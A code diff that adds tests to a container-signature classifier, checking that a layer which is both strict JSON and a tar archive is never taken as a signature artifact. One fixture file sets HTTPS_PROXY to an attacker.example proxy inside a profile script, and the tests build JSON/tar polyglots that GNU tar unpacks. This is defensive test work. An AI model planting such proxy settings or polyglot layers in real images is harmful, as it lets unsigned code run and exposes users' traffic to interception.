@@ -3,13 +3,16 @@
 // controls every label (manifest media type, artifactType, layer media types, annotations, config)
 // and some of the bytes: whenever a layer could unpack into a file system, or the config could run
 // something, the manifest is not a signature artifact. Examples check the real tools' artifacts are.
+import { spawnSync } from 'node:child_process';
 import test from 'ava';
 import fc from 'fast-check';
 import { gzipSync } from 'node:zlib';
-import { createSignatureArtifacts, type SmallBlobReader } from '../../sigstore/signature-artifact.js';
+import { createSignatureArtifacts, holdsTarHeader, type SmallBlobReader } from '../../sigstore/signature-artifact.js';
 import { makeCosignKey } from '../helpers/cosign.js';
 import { blobOf, OCI_INDEX, OCI_LAYER, OCI_MANIFEST, tarOf, type Blob } from '../helpers/oci-layout.js';
 import {
+  jsonTarPolyglot,
+  POLYGLOT_WRAPPERS,
   COSIGN_SIMPLESIGNING,
   cosignAttestation,
   cosignConfig,
@@ -210,4 +213,71 @@ test('property: whatever the labels, a manifest with a layer that could unpack, 
     { seed: 20261202, numRuns: 3000 },
   );
   t.pass();
+});
+
+/** A signature artifact whose one layer is the polyglot. */
+function polyglotArtifact(layerBytes: Buffer, mediaType: string): Artifact {
+  const layer = blobOf(layerBytes, mediaType);
+  return {
+    blobs: [EMPTY_CONFIG, layer],
+    manifest: manifestOf({
+      artifactType: 'application/vnd.dev.cosign.artifact.sig.v1+json',
+      config: descriptorOf(EMPTY_CONFIG),
+      layers: [descriptorOf(layer, { annotations: { 'dev.cosignproject.cosign/signature': 'AAAA' } })],
+    }),
+  };
+}
+
+test('a layer that is strict JSON and also a tar archive (GNU tar lists its files) is never a signature artifact', async (t) => {
+  const files = [
+    // No line breaks (JSON strings hold no control characters), which sh does not need.
+    { name: 'etc/profile.d/corp.sh', content: 'export HTTPS_PROXY=http://attacker.example:3128' },
+    { name: 'usr/local/bin/setup.sh', content: 'echo unsigned code ran; id' },
+  ];
+  for (const [kind, wrapper] of Object.entries(POLYGLOT_WRAPPERS)) {
+    for (const junkBlocks of [0, 1]) {
+      const bytes = jsonTarPolyglot(files, wrapper, junkBlocks);
+      t.false(bytes.includes(0), 'no NUL byte anywhere');
+      t.notThrows(() => void JSON.parse(bytes.toString('latin1')), `${kind}: strict JSON`);
+      // --ignore-zeros: GNU tar reads on past blocks that hold no header (and exits 2 after).
+      const listed = spawnSync('tar', ['-t', '--ignore-zeros', '-f', '-'], { input: bytes, encoding: 'utf8' })
+        .stdout.split('\n')
+        .map((line) => line.replace(/^\/+/, ''));
+      t.true(listed.includes('usr/local/bin/setup.sh'), `${kind}, ${junkBlocks} junk blocks: GNU tar lists ${listed.join(', ')}`);
+      t.true(holdsTarHeader(bytes));
+      const verdict = await classify(polyglotArtifact(bytes, wrapper.mediaType));
+      t.false(verdict.signature, `${kind}, ${junkBlocks} junk blocks`);
+    }
+  }
+});
+
+test('property: JSON holding a tar archive, whatever its files and wrapper, is never a signature artifact', async (t) => {
+  const printable = fc.stringMatching(/^[ -!#-[\]-~]{0,700}$/);
+  const name = fc.stringMatching(/^[a-z][a-z0-9._/-]{0,40}$/);
+  await fc.assert(
+    fc.asyncProperty(
+      fc.array(fc.record({ name, content: printable }), { minLength: 1, maxLength: 3 }),
+      fc.constantFrom(...Object.values(POLYGLOT_WRAPPERS)),
+      fc.integer({ min: 0, max: 2 }),
+      async (files, wrapper, junkBlocks) => {
+        const bytes = jsonTarPolyglot(files, wrapper, junkBlocks);
+        if (bytes.length > 256 * 1024) return true;
+        return holdsTarHeader(bytes) && !(await classify(polyglotArtifact(bytes, wrapper.mediaType))).signature;
+      },
+    ),
+    { seed: 20261205, numRuns: 300 },
+  );
+  t.pass();
+});
+
+test('the tar check passes the payloads real signing tools write', (t) => {
+  const key = makeCosignKey();
+  const real = [
+    cosignSignatureManifest(key, SUBJECT.digest, 'registry.example.com/team/app').payload.data,
+    cosignAttestation(SUBJECT).blobs[1]!.data,
+    sigstoreBundleReferrer(SUBJECT).blobs[1]!.data,
+    notationReferrer(SUBJECT).blobs[1]!.data,
+  ];
+  for (const bytes of real) t.false(holdsTarHeader(bytes));
+  t.true(holdsTarHeader(tarOf({ 'bin/tool': Buffer.from('x') })));
 });
